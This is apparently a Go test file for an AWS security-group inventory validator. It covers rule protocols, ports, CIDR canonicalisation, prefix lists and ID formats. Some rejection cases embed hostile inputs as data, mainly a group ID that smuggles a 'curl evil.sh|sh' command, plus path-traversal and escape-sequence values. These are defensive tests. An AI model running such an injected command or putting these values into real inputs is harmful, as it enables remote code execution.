package inventory

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const account = "111122223333"

// pl1 is a prefix list id of the shape EC2 writes.
const pl1 = "pl-0123456789abcdef0"

// testGroup is group sg-1 of account in eu-west-1, with its ARN.
func testGroup(rules Rules) SecurityGroup {
	return SecurityGroup{ID: "sg-1", AccountID: account, Region: "eu-west-1",
		ARN: "arn:aws:ec2:eu-west-1:" + account + ":security-group/sg-1", Rules: rules}
}

// validRules are rules of every protocol and peer kind in their
// canonical form, as the normalizer writes them.
func validRules() []Rule {
	v4 := func(c string) Peer { return Peer{Kind: PeerCIDRv4, CIDR: c} }
	return []Rule{
		{ID: "sgr-1", Direction: Egress, Protocol: ProtocolAll, RawProtocol: "-1", FromPort: 0, ToPort: 65535, Peer: v4("0.0.0.0/0")},
		{ID: "sgr-2", Direction: Ingress, Protocol: ProtocolICMP, RawProtocol: "icmp", FromPort: -1, ToPort: -1,
			Peer: Peer{Kind: PeerCIDRv6, CIDR: "::/0"}, Description: "ping"},
		{ID: "sgr-3", Direction: Ingress, Protocol: ProtocolTCP, RawProtocol: "tcp", FromPort: 443, ToPort: 443,
			Peer:        Peer{Kind: PeerSecurityGroup, GroupID: "sg-9", GroupOwner: "444455556666", VPCID: "vpc-2", PeeringStatus: "deleted"},
			Description: "web"},
		{Direction: Ingress, Protocol: "47", RawProtocol: "47", FromPort: -1, ToPort: -1,
			Peer: Peer{Kind: PeerPrefixList, PrefixListID: pl1}, Description: "gre — ünïcode"},
		{ID: "sgr-4", Direction: Ingress, Protocol: ProtocolUDP, RawProtocol: "17", FromPort: 0, ToPort: 65535, Peer: v4("10.0.0.0/8")},
		{ID: "sgr-5", Direction: Ingress, Protocol: ProtocolICMP, RawProtocol: "1", FromPort: 3, ToPort: -1, Peer: v4("192.0.2.7/32")},
		{ID: "sgr-6", Direction: Ingress, Protocol: ProtocolICMP, RawProtocol: "icmp", FromPort: 8, ToPort: 0, Peer: v4("192.0.2.0/24")},
		{ID: "sgr-7", Direction: Ingress, Protocol: ProtocolICMPv6, RawProtocol: "58", FromPort: 255, ToPort: 255,
			Peer: Peer{Kind: PeerCIDRv6, CIDR: "2001:db8::/32"}},
		{ID: "sgr-8", Direction: Ingress, Protocol: "0", RawProtocol: "0", FromPort: -1, ToPort: -1, Peer: Peer{Kind: PeerCIDRv6, CIDR: "::ffff:0.0.0.0/96"}},
		{ID: "sgr-9", Direction: Egress, Protocol: "255", RawProtocol: "255", FromPort: -1, ToPort: -1, Peer: Peer{Kind: PeerSecurityGroup, GroupID: "sg-1"}},
	}
}

func TestValidateAcceptsCanonicalValues(t *testing.T) {
	g := testGroup(SortedRules(validRules()))
	g.StaleRules = NewRules(validRules()[2])
	if err := g.Validate(); err != nil {
		t.Fatal(err)
	}
}

// TestValidateRefusesWhatAWSRefuses: issue 9 item 6. Each value was
// accepted before (exit 0, and the CIDRs counted as the world or missed).
func TestValidateRefusesWhatAWSRefuses(t *testing.T) {
	tcp := func(from, to int, cidr string) Rule {
		return Rule{Direction: Ingress, Protocol: ProtocolTCP, FromPort: from, ToPort: to, Peer: Peer{Kind: PeerCIDRv4, CIDR: cidr}}
	}
	proto := func(p string, from, to int) Rule {
		r := tcp(from, to, "0.0.0.0/0")
		r.Protocol = p
		return r
	}
	v6 := func(cidr string) Rule {
		r := tcp(22, 22, "")
		r.Peer = Peer{Kind: PeerCIDRv6, CIDR: cidr}
		return r
	}
	tests := []struct {
		name string
		rule Rule
		want string // the error after "group sg-1, rule #1 (...): "
	}{
		{"port above 65535", tcp(22, 65536, "0.0.0.0/0"), `to_port "65536": tcp ports are 0 to 65535 (AWS requires a port range)`},
		{"negative port", tcp(-2, 22, "0.0.0.0/0"), `from_port "-2": tcp ports are 0 to 65535 (AWS requires a port range)`},
		{"tcp without ports", tcp(-1, -1, "0.0.0.0/0"), `from_port "-1": tcp ports are 0 to 65535 (AWS requires a port range)`},
		{"from above to", tcp(23, 22, "0.0.0.0/0"), `from_port "23": greater than to_port 22`},
		{"empty protocol", proto("", 22, 22), `protocol "": no protocol`},
		{"protocol 256", proto("256", -1, -1), `protocol "256": not an EC2 protocol: want tcp, udp, icmp, icmpv6, -1 or a protocol number 0-255`},
		{"sctp by name", proto("sctp", -1, -1), `protocol "sctp": not an EC2 protocol: want tcp, udp, icmp, icmpv6, -1 or a protocol number 0-255`},
		{"hex protocol", proto("0x6", 22, 22), `protocol "0x6": not an EC2 protocol: want tcp, udp, icmp, icmpv6, -1 or a protocol number 0-255`},
		{"zero-padded protocol", proto("047", -1, -1), `protocol "047": not an EC2 protocol: want tcp, udp, icmp, icmpv6, -1 or a protocol number 0-255`},
		{"tcp by number in an inventory", proto("6", 22, 22), `protocol "6": not canonical: the inventory writes it "tcp"`},
		{"upper case in an inventory", proto("TCP", 22, 22), `protocol "TCP": not canonical: the inventory writes it "tcp"`},
		{"raw -1 in an inventory", proto("-1", 0, 65535), `protocol "-1": not canonical: the inventory writes it "all"`},
		{"all with other ports", proto("all", -1, -1), `from_port "-1": the inventory stores protocol all as ports 0-65535`},
		{"gre with ports", proto("47", 22, 22), `from_port "22": protocol 47 has no ports; the inventory stores -1`},
		{"icmp type 256", proto("icmp", 256, 0), `from_port "256": the ICMP type is -1 (any) or 0 to 255`},
		{"icmp code -2", proto("icmpv6", 8, -2), `to_port "-2": the ICMP code is -1 (any) or 0 to 255`},
		{"any icmp type with one code", proto("icmp", -1, 0), `to_port "0": any ICMP type (-1) requires any code (-1)`},
		{"octet above 255", tcp(22, 22, "300.0.0.0/8"), `peer.cidr "300.0.0.0/8": not a CIDR block`},
		{"IPv6 prefix above 128", v6("::/129"), `peer.cidr "::/129": not a CIDR block`},
		{"not hex", v6("zz::/0"), `peer.cidr "zz::/0": not a CIDR block`},
		{"trailing space", tcp(22, 22, "0.0.0.0/0 "), `peer.cidr "0.0.0.0/0 ": not a CIDR block`},
		{"zero-padded prefix length", tcp(22, 22, "0.0.0.0/00"), `peer.cidr "0.0.0.0/00": not a CIDR block`},
		{"octal-looking octet", tcp(22, 22, "010.0.0.0/8"), `peer.cidr "010.0.0.0/8": not a CIDR block`},
		{"no prefix length", tcp(22, 22, "192.0.2.1"), `peer.cidr "192.0.2.1": not a CIDR block`},
		{"host bits", tcp(22, 22, "10.0.0.1/8"), `peer.cidr "10.0.0.1/8": not canonical: AWS writes it "10.0.0.0/8"`},
		{"world with host bits", tcp(22, 22, "10.0.0.0/0"), `peer.cidr "10.0.0.0/0": not canonical: AWS writes it "0.0.0.0/0"`},
		{"long IPv6 world", v6("0:0:0:0:0:0:0:0/0"), `peer.cidr "0:0:0:0:0:0:0:0/0": not canonical: AWS writes it "::/0"`},
		{"upper-case IPv6", v6("2001:DB8::/32"), `peer.cidr "2001:DB8::/32": not canonical: AWS writes it "2001:db8::/32"`},
		{"IPv4 in an IPv6 rule", v6("0.0.0.0/0"), `peer.cidr "0.0.0.0/0": an IPv4 CIDR where IPv6 is expected`},
		{"IPv6 in an IPv4 rule", tcp(22, 22, "::/0"), `peer.cidr "::/0": an IPv6 CIDR where IPv4 is expected`},
		{"unknown peer kind", Rule{Direction: Ingress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: "world"}},
			`peer.kind "world": want cidr_ipv4, cidr_ipv6, prefix_list or security_group`},
		{"no direction", Rule{Protocol: "all", ToPort: 65535}, `direction "": want ingress or egress`},
		{"prefix list without id", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerPrefixList}},
			`peer.prefix_list_id "": a prefix_list peer needs the list's id`},
		{"group without id", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerSecurityGroup, GroupOwner: account}},
			`peer.group_id "": a security_group peer needs the group's id`},
		{"owner not 12 digits", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerSecurityGroup, GroupID: "sg-2", GroupOwner: "../../x"}},
			`peer.group_owner "../../x": an account id is exactly 12 digits`},
		{"peer group id with a newline", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerSecurityGroup, GroupID: "sg-2\nsg-3"}},
			`peer.group_id "sg-2\nsg-3": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"peer group id as a path", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerSecurityGroup, GroupID: "../../etc"}},
			`peer.group_id "../../etc": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"peer vpc id with a space", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerSecurityGroup, GroupID: "sg-2", VPCID: "vpc-1 x"}},
			`peer.vpc_id "vpc-1 x": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"CIDR peer with a group", Rule{Direction: Egress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerCIDRv4, CIDR: "10.0.0.0/8", GroupID: "sg-2"}},
			`peer.group_id "sg-2": a cidr_ipv4 peer has no group_id`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			g := testGroup(NewRules(validRules()[0], tt.rule))
			err := g.Validate()
			var ve *ValueError
			if !errors.As(err, &ve) {
				t.Fatalf("Validate = %v, want a *ValueError", err)
			}
			want := "group sg-1, rule #2 (" + describeRule(tt.rule) + "): " + tt.want
			if diff := cmp.Diff(want, err.Error()); diff != "" {
				t.Errorf("error (-want +got):\n%s", diff)
			}
			if ve.GroupID != "sg-1" || ve.Rule != 1 {
				t.Errorf("ValueError names group %q rule %d, want sg-1 and 1", ve.GroupID, ve.Rule)
			}
		})
	}
}

func TestValidateGroupFields(t *testing.T) {
	bad := validRules()[2]
	bad.Peer.GroupOwner = "12345678901"
	staleGroup := testGroup(Rules{})
	staleGroup.StaleRules = NewRules(bad)
	tests := []struct {
		name string
		g    SecurityGroup
		want string
	}{
		{"no id", SecurityGroup{AccountID: account}, `group without id: id "": a security group needs an id`},
		{"account with a path", SecurityGroup{ID: "sg-1", AccountID: "../1111"}, `group sg-1: account_id "../1111": an account id is exactly 12 digits`},
		{"account of 13 digits", SecurityGroup{ID: "sg-1", AccountID: "1111222233334"}, `group sg-1: account_id "1111222233334": an account id is exactly 12 digits`},
		{"stale rule by id", staleGroup,
			`group sg-1, stale rule sgr-3: peer.group_owner "12345678901": an account id is exactly 12 digits`},
		{"odd characters are quoted", SecurityGroup{ID: "sg-1\x1b[2J", AccountID: "x"},
			`group: id "sg-1\x1b[2J": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"group id as a path", SecurityGroup{ID: "../../../../tmp/x", AccountID: account},
			`group: id "../../../../tmp/x": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"group id with a command", SecurityGroup{ID: "sg-0123abcd;curl evil.sh|sh;#", AccountID: account},
			`group: id "sg-0123abcd;curl evil.sh|sh;#": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"group id in upper case", SecurityGroup{ID: "SG-0123ABCD", AccountID: account},
			`group: id "SG-0123ABCD": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"group id only the prefix", SecurityGroup{ID: "sg-", AccountID: account},
			`group: id "sg-": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"group id too long", SecurityGroup{ID: "sg-" + strings.Repeat("0", 62), AccountID: account},
			`group: id "sg-` + strings.Repeat("0", 62) + `": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"rule id as a path", testGroup(NewRules(Rule{ID: "sgr-../x", Direction: Ingress, Protocol: "all", ToPort: 65535, Peer: Peer{Kind: PeerCIDRv4, CIDR: "10.0.0.0/8"}})),
			`group sg-1, rule sgr-../x: id "sgr-../x": not an id: "sgr-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"vpc id with a slash", SecurityGroup{ID: "sg-1", VPCID: "vpc-1/..", AccountID: account},
			`group sg-1: vpc_id "vpc-1/..": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"odd characters in a rule are quoted", testGroup(NewRules(Rule{
			Direction: Ingress, Protocol: "\u202etcp", Peer: Peer{Kind: PeerCIDRv4, CIDR: "0.0.0.0/0\n"}})),
			`group sg-1, rule #1 (ingress "\u202etcp" 0-0 "0.0.0.0/0\n"): protocol "\u202etcp": not an EC2 protocol: want tcp, udp, icmp, icmpv6, -1 or a protocol number 0-255`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			err := tt.g.Validate()
			if err == nil {
				t.Fatal("Validate accepted it")
			}
			if diff := cmp.Diff(tt.want, err.Error()); diff != "" {
				t.Errorf("error (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseProtocol(t *testing.T) {
	tests := []struct {
		raw, want string
		ok        bool
	}{
		{"-1", "all", true},
		{"tcp", "tcp", true}, {"TCP", "tcp", true}, {"Tcp", "tcp", true}, {"6", "tcp", true},
		{"udp", "udp", true}, {"17", "udp", true},
		{"icmp", "icmp", true}, {"ICMP", "icmp", true}, {"1", "icmp", true},
		{"icmpv6", "icmpv6", true}, {"ICMPv6", "icmpv6", true}, {"58", "icmpv6", true},
		{"0", "0", true}, {"47", "47", true}, {"255", "255", true},
		{"", "", false}, {"256", "256", false}, {"-2", "-2", false}, {"006", "006", false}, {"+6", "+6", false},
		{"0x6", "0x6", false}, {" tcp", " tcp", false}, {"tcp ", "tcp ", false}, {"sctp", "sctp", false},
		{"all", "all", false}, {"icmp6", "icmp6", false}, {"1000", "1000", false},
		// Only ASCII letters fold: "K" (Kelvin sign) is not k, İ is not I.
		{"İCMP", "İCMP", false}, {"\u212a", "\u212a", false},
	}
	for _, tt := range tests {
		got, ok := ParseProtocol(tt.raw)
		if got != tt.want || ok != tt.ok {
			t.Errorf("ParseProtocol(%q) = %q, %v; want %q, %v", tt.raw, got, ok, tt.want, tt.ok)
		}
	}
}

func TestCanonicalCIDR(t *testing.T) {
	tests := []struct {
		in, want string
		v6, ok   bool
	}{
		{"0.0.0.0/0", "0.0.0.0/0", false, true},
		{"10.1.2.3/0", "0.0.0.0/0", false, true},
		{"10.0.0.1/8", "10.0.0.0/8", false, true},
		{"::/0", "::/0", true, true},
		{"0:0:0:0:0:0:0:0/0", "::/0", true, true},
		{"::0/0", "::/0", true, true},
		{"FFFF::/0", "::/0", true, true},
		{"::ffff:0.0.0.0/0", "::/0", true, true},
		{"::ffff:0.0.0.0/96", "::ffff:0.0.0.0/96", true, true},
		{"2001:0DB8:0000::1/48", "2001:db8::/48", true, true},
		{"0.0.0.0/00", "", false, false},
		{"0.0.0.0/0 ", "", false, false},
		{" ::/0", "", false, false},
		{"300.0.0.0/8", "", false, false},
		{"::/129", "", false, false},
		{"zz::/0", "", false, false},
		{"fe80::1%eth0/64", "", false, false},
		{"", "", false, false},
	}
	for _, tt := range tests {
		got, v6, ok := CanonicalCIDR(tt.in)
		if got != tt.want || v6 != tt.v6 || ok != tt.ok {
			t.Errorf("CanonicalCIDR(%q) = %q, %v, %v; want %q, %v, %v", tt.in, got, v6, ok, tt.want, tt.v6, tt.ok)
		}
	}
}

func TestPrefixListValidate(t *testing.T) {
	ok := PrefixList{ID: pl1, AccountID: account, Region: "eu-west-1", Owner: "AWS", Entries: []PrefixListEntry{{CIDR: "10.0.0.0/8"}, {CIDR: "2001:db8::/32"}}}
	if err := ok.Validate("prefix_lists[0]"); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		edit func(*PrefixList)
		want string
	}{
		{"no id", func(pl *PrefixList) { pl.ID = "" }, `prefix_lists[0]: id "": a prefix list needs an id`},
		{"account", func(pl *PrefixList) { pl.AccountID = "1" }, `prefix_lists[0] (pl-0123456789abcdef0): account_id "1": an account id is exactly 12 digits`},
		{"owner", func(pl *PrefixList) { pl.Owner = "aws" }, `prefix_lists[0] (pl-0123456789abcdef0): owner "aws": an owner is an account id of 12 digits, or "AWS"`},
		{"entry", func(pl *PrefixList) { pl.Entries[1].CIDR = "0.0.0.0/00" }, `prefix_lists[0] (pl-0123456789abcdef0): entries[1].cidr "0.0.0.0/00": not a CIDR block`},
		{"entry with host bits", func(pl *PrefixList) { pl.Entries[0].CIDR = "10.0.0.0/0" },
			`prefix_lists[0] (pl-0123456789abcdef0): entries[0].cidr "10.0.0.0/0": not canonical: AWS writes it "0.0.0.0/0"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pl := ok
			pl.Entries = append([]PrefixListEntry(nil), ok.Entries...)
			tt.edit(&pl)
			err := pl.Validate("prefix_lists[0]")
			if err == nil || err.Error() != tt.want {
				t.Errorf("Validate = %v, want %s", err, tt.want)
			}
		})
	}
}

func TestValueErrorWithoutGroup(t *testing.T) {
	e := &ValueError{Where: "coverage[2]", Rule: -1, Field: "account_id", Value: "x/y", Reason: "r"}
	if got := e.Error(); !strings.HasPrefix(got, `coverage[2]: account_id "x/y"`) {
		t.Errorf("Error = %s", got)
	}
}

// BenchmarkValidate measures Validate on a group of ten rules of every
// kind; an import validates every group it reads.
func BenchmarkValidate(b *testing.B) {
	g := testGroup(SortedRules(validRules()))
	b.ReportAllocs()
	for b.Loop() {
		if err := g.Validate(); err != nil {
			b.Fatal(err)
		}
	}
}
